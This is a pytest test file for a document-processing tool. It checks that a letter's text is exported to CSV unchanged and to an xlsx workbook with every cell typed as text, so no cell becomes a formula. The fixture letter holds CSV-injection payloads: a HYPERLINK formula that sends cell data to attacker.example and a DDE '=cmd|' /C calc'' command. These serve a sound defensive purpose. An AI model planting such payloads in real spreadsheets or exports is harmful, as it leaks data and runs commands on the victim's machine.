"""Spreadsheet safety: a hostile letter whose paragraphs and signature lines begin
with "=", "+", "-" or "@". The CSVs keep the letter's text as it is (they are
the research data); tables.xlsx holds the same cells typed as text, so that no
cell is a formula in a spreadsheet program."""

from __future__ import annotations

import csv
import io
import re
import zipfile
from pathlib import Path

import pytest

from compendium import spreadsheet
from compendium.process import process

HOSTILE = """March 1, 2016

The Honorable Jane Q. Official
Ministry of Examples

Re: A test of spreadsheet safety

Dear Minister Official,

=HYPERLINK("http://attacker.example/?leak="&A1,"Click here") is how this paragraph begins.

+SUM(1+1) begins this one, and we urge you to act before the end of June.

-2+3 and @SUM(A1:A9) begin the next lines of this letter.

@cmd|' /C calc'!A0 is the last paragraph of the body.

Sincerely,

=cmd|' /C calc'!A0
Director
Obscure Test Alliance

+Ana Example
Professor, Georgetown University

-Ben Sample
@Home Foundation
"""
DANGEROUS = ("=", "+", "-", "@", "\t", "\r")
TABLES = spreadsheet.SHEETS


@pytest.fixture(scope="module")
def hostile(tmp_path_factory) -> Path:
    base = tmp_path_factory.mktemp("hostile")
    raw = base / "2016-03-01-hostile.txt"
    raw.write_text(HOSTILE, encoding="utf-8")
    return process(raw, base / "out", warn=lambda m: None)


def _csv(path: Path) -> list[list[str]]:
    return list(csv.reader(io.StringIO(path.read_text(encoding="utf-8"), newline="")))


def test_the_csvs_stay_faithful_to_the_letter(hostile):
    paragraphs = [r[-1] for r in _csv(hostile / "paragraphs.csv")]
    assert '=HYPERLINK("http://attacker.example/?leak="&A1,"Click here") is how this paragraph begins.' in paragraphs
    assert "+SUM(1+1) begins this one, and we urge you to act before the end of June." in paragraphs
    assert "-2+3 and @SUM(A1:A9) begin the next lines of this letter." in paragraphs
    assert "@cmd|' /C calc'!A0 is the last paragraph of the body." in paragraphs
    cells = {v for t in ("signatories", "affiliations") for row in _csv(hostile / f"{t}.csv") for v in row}
    assert {"=cmd|' /C calc'!A0", "+Ana Example", "-Ben Sample", "@Home Foundation"} <= cells  # unprefixed


def _sheet_cells(data: bytes):
    """(sheet file, cell ref, style, type, xml) for every cell of the workbook."""
    zf = zipfile.ZipFile(io.BytesIO(data))
    for name in sorted(n for n in zf.namelist() if n.startswith("xl/worksheets/")):
        xml = zf.read(name).decode("utf-8")
        assert "<f>" not in xml and "<f " not in xml, f"{name} holds a formula"
        for m in re.finditer(r'<c r="([A-Z]+\d+)"([^>]*)>(.*?)</c>', xml):
            attrs = dict(re.findall(r'(\w+)="([^"]*)"', m.group(2)))
            yield name, m.group(1), attrs.get("s"), attrs.get("t"), m.group(3)


def test_the_workbook_holds_the_same_cells_typed_as_text_and_no_formula(hostile):
    data = (hostile / "tables.xlsx").read_bytes()
    back = spreadsheet.read_cells(data)
    assert list(back) == list(TABLES)
    for t in TABLES:
        rows = _csv(hostile / f"{t}.csv")
        got = [r + [""] * (len(rows[0]) - len(r)) for r in back[t]]
        assert got == rows, t  # every cell, unchanged and unprefixed
    dangerous = 0
    for sheet, ref, style, typ, xml in _sheet_cells(data):
        if typ is None:  # a number: only integer columns, only digits
            assert re.fullmatch(r"<v>-?\d+</v>", xml), (sheet, ref, xml)
            continue
        assert typ == "inlineStr" and style in ("1", "2"), (sheet, ref)  # text, in a Text-formatted cell
        text = re.search(r"<t[^>]*>(.*)</t>", xml, re.S).group(1)
        dangerous += text.startswith(("=", "+", "-", "@"))
    assert dangerous >= 8
    styles = zipfile.ZipFile(io.BytesIO(data)).read("xl/styles.xml").decode()
    assert '<xf numFmtId="49"' in styles  # number format "@": Text


def test_tab_and_carriage_return_at_the_start_of_a_cell_are_kept_as_text():
    table = 'id,text\n1,"\tTAB=1+1"\n2,"\r=2+2"\n3,"@x"\n4,-5\n5,_x0041_\n'
    data = spreadsheet.workbook({"paragraphs": table.replace("id,", "paragraph_id,", 1)})
    back = spreadsheet.read_cells(data)["paragraphs"]
    assert [r[1] for r in back[1:]] == ["\tTAB=1+1", "\r=2+2", "@x", "-5", "_x0041_"]
    cells = list(_sheet_cells(data))
    assert all(t == "inlineStr" for _, ref, _, t, _ in cells if ref.startswith("B"))


def test_the_workbook_is_the_same_bytes_every_time(hostile, tmp_path):
    again = process(hostile.parent / "2016-03-01-hostile.txt", tmp_path / "again", warn=lambda m: None)
    assert (again / "tables.xlsx").read_bytes() == (hostile / "tables.xlsx").read_bytes()
    info = zipfile.ZipFile(hostile / "tables.xlsx").infolist()
    assert {i.date_time for i in info} == {(1980, 1, 1, 0, 0, 0)}
    assert not [i for i in info if i.filename.startswith("docProps")]  # no author, no creation date
